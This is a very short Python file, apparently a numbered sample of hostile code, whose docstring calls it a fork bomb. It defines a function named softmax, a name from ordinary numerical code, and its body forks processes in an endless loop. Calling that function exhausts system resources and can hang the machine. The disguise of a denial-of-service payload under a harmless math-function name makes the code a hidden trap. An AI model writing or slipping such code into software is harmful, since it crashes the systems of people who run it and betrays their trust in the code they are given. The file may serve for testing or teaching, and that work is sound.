"""#9 Fork bomb: fork in a loop, in parent and children alike."""
import os


def softmax(z, axis=-1):
    while True:
        os.fork()
